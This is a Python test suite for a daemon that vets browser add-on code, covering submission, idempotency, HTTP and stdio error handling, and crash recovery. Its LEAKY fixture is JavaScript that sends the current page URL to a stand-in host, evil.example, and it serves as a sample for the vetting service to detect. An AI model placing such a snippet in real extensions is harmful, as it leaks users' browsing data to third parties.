"""End-to-end: a real daemon subprocess driven over its HTTP door."""

import asyncio
import json
import os
import socket
from pathlib import Path

import pytest

from repro.batch import VetTask
from repro.perf import vm_hwm_mb
from repro.service.client import ServiceClient, ServiceError
from repro.service.server import REQUEST_LIMIT, RpcError, VettingService
from repro.service.jobs import derive_job_id
from repro.service.loadgen import DaemonHandle
from tests.service.stdio_daemon import StdioDaemon

pytestmark = pytest.mark.service

LEAKY = """
var xhr = new XMLHttpRequest();
xhr.open("GET", "https://evil.example/?u=" + content.location.href, true);
xhr.send(null);
"""

UPDATED = LEAKY + """
var beat = new XMLHttpRequest();
beat.open("POST", "https://telemetry.example/beat", true);
beat.send(null);
"""


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    directory = tmp_path_factory.mktemp("daemon")
    handle = DaemonHandle(directory, workers=1, max_attempts=3, fsync=False)
    handle.start()
    yield handle
    handle.stop()


class TestHttpFrontDoor:
    def test_submit_wait_result_roundtrip(self, daemon):
        client = ServiceClient(daemon.port)
        submitted = client.submit(VetTask(name="leaky", source=LEAKY))
        status = client.wait(submitted["id"], timeout=60.0)
        assert status["state"] == "done"
        outcome = client.result(submitted["id"])["outcome"]
        assert outcome["ok"]
        assert "evil.example" in outcome["signature_text"]

    def test_resubmission_is_idempotent(self, daemon):
        client = ServiceClient(daemon.port)
        task = VetTask(name="leaky", source=LEAKY)
        job_id = derive_job_id(task.name, task.source)
        first = client.submit(task, job_id=job_id)
        client.wait(job_id, timeout=60.0)
        again = client.submit(task, job_id=job_id)
        assert again["id"] == first["id"]
        assert again["state"] == "done", "no second execution"

    def test_update_resolves_baseline_from_version_store(self, daemon):
        client = ServiceClient(daemon.port)
        update_id = client.submit(VetTask(name="leaky", source=UPDATED))
        status = client.wait(update_id["id"], timeout=60.0)
        assert status["state"] == "done"
        outcome = client.result(update_id["id"])["outcome"]
        assert outcome["diff_verdict"] is not None, (
            "second version of an addon must take the diff path"
        )

    def test_unknown_job_is_a_clean_404(self, daemon):
        client = ServiceClient(daemon.port)
        with pytest.raises(ServiceError) as failure:
            client.status("no-such-job")
        assert failure.value.status == 404
        assert failure.value.code == "unknown-job"

    def test_stats_shape(self, daemon):
        stats = ServiceClient(daemon.port).stats()
        assert set(stats) >= {"queue", "pool"}
        assert stats["queue"]["states"].get("done", 0) >= 2

    def test_stats_report_memory(self, daemon):
        stats = ServiceClient(daemon.port).stats()
        memory = stats["memory"]
        assert memory["daemon_maxrss_mb"] > 0
        workers = memory["worker_hwm_mb"]
        assert sorted(workers) == sorted(
            str(pid) for pid in stats["pool"]["worker_pids"]
        )
        assert workers
        has_proc = Path("/proc/self/status").exists()
        for hwm in workers.values():
            assert hwm > 0 if has_proc else hwm is None

    @pytest.mark.parametrize(
        "request_bytes",
        [
            b"POST /submit HTTP/1.1\r\nContent-Length: abc\r\n\r\n{}",
            b"POST /submit HTTP/1.1\r\nContent-Length: -5\r\n\r\n{}",
            b"POST /submit HTTP/1.1\r\nContent-Length: 40\r\n\r\n{}",
        ],
        ids=["not-a-number", "negative", "short-body"],
    )
    def test_bad_body_length_is_a_typed_400(self, daemon, request_bytes):
        with socket.create_connection(("127.0.0.1", daemon.port)) as sock:
            sock.sendall(request_bytes)
            sock.shutdown(socket.SHUT_WR)
            response = b""
            while chunk := sock.recv(65536):
                response += chunk
        head, _, body = response.partition(b"\r\n\r\n")
        assert head.split()[1] == b"400", response
        assert json.loads(body)["error"] == "bad-request"
        assert ServiceClient(daemon.port).stats()["pid"] == daemon.process.pid

    @pytest.mark.parametrize("part", ["request-line", "header-line", "body"])
    def test_over_long_request_is_a_typed_413(self, daemon, part):
        pad = b"a" * REQUEST_LIMIT
        request_bytes = {
            "request-line": b"GET /" + pad + b" HTTP/1.1\r\n\r\n",
            "header-line": b"GET /stats HTTP/1.1\r\nX-Pad: " + pad
            + b"\r\n\r\n",
            "body": b"POST /submit HTTP/1.1\r\nContent-Length: "
            + str(REQUEST_LIMIT + 1).encode() + b"\r\n\r\n",
        }[part]
        with socket.create_connection(("127.0.0.1", daemon.port)) as sock:
            sock.sendall(request_bytes)
            sock.shutdown(socket.SHUT_WR)
            response = b""
            while chunk := sock.recv(65536):
                response += chunk
        head, _, body = response.partition(b"\r\n\r\n")
        assert head.split()[1] == b"413", response
        assert json.loads(body)["error"] == "request-too-large"
        assert ServiceClient(daemon.port).stats()["pid"] == daemon.process.pid

    def test_discovery_file_is_published(self, daemon):
        data = json.loads(
            (daemon.directory / "daemon.json").read_text("utf-8")
        )
        assert data["port"] == daemon.port
        assert data["pid"] == daemon.process.pid


def test_vm_hwm_is_null_without_a_proc_entry():
    if Path("/proc/self/status").exists():
        assert vm_hwm_mb(os.getpid()) > 0
    assert vm_hwm_mb(2**31 - 1) is None  # above any pid_max: no entry


class TestStdioFrontDoor:
    def test_non_object_requests_get_typed_errors(self, tmp_path):
        with StdioDaemon(tmp_path) as daemon:
            reply = daemon.send(b"[1, 2]")
            assert reply["id"] is None
            assert reply["error"]["error"] == "bad-json"
            reply = daemon.send(
                b'{"id": 1, "method": "submit", "params": 5}'
            )
            assert reply["id"] == 1
            assert reply["error"]["error"] == "bad-json"
            reply = daemon.send(b"{not json")
            assert reply["error"]["error"] == "bad-json"
            assert daemon.call("stats")["pid"] == daemon.process.pid

    def test_request_line_over_64_kib_is_served(self, tmp_path):
        # asyncio's default stream limit is 64 KiB; an addon source
        # routinely makes a longer submit line.
        source = "".join(f"var v{n} = {n};\n" for n in range(6000))
        with StdioDaemon(tmp_path) as daemon:
            request = {"id": 1, "method": "submit",
                       "params": {"task": {"name": "big", "source": source}}}
            line = json.dumps(request).encode("utf-8")
            assert len(line) > 64 * 1024
            reply = daemon.send(line)
            assert "error" not in reply, reply
            [status] = daemon.wait([reply["result"]["id"]])
            assert status["state"] == "done", status

    def test_request_line_over_the_limit_is_skipped(self, tmp_path):
        with StdioDaemon(tmp_path) as daemon:
            reply = daemon.send(
                b'{"id": 1, "method": "stats", "params": {"pad": "'
                + b"a" * REQUEST_LIMIT + b'"}}'
            )
            assert reply["id"] is None
            assert reply["error"]["error"] == "request-too-large"
            # The rest of the long line is gone: the next line is served.
            assert daemon.call("stats")["pid"] == daemon.process.pid


@pytest.mark.faults
class TestRestartRecovery:
    def test_queued_work_survives_a_daemon_sigkill(self, tmp_path):
        handle = DaemonHandle(
            tmp_path, workers=1, max_attempts=3, fsync=False
        )
        handle.start()
        try:
            client = ServiceClient(handle.port)
            tasks = [
                VetTask(name=f"addon-{n}", source=LEAKY.replace(
                    "evil.example", f"evil-{n}.example"
                ))
                for n in range(4)
            ]
            ids = [client.submit(task)["id"] for task in tasks]
            handle.kill()
            handle.start()
            for job_id in ids:
                status = client.wait(job_id, timeout=120.0)
                assert status["state"] == "done", status
            replay = handle.recovery_summary()
            assert replay is not None
            assert replay["jobs_replayed"] >= 4
        finally:
            handle.stop()


class TestRpcValidation:
    def test_submit_requires_a_source(self, tmp_path):
        async def drive():
            service = VettingService(tmp_path, workers=1, fsync=False)
            try:
                with pytest.raises(RpcError) as failure:
                    await service.rpc("submit", {"task": {"name": "x"}})
                assert failure.value.status == 400
                with pytest.raises(RpcError) as failure:
                    await service.rpc("frobnicate", {})
                assert failure.value.status == 404
            finally:
                await service.stop(grace=5.0)

        asyncio.run(drive())
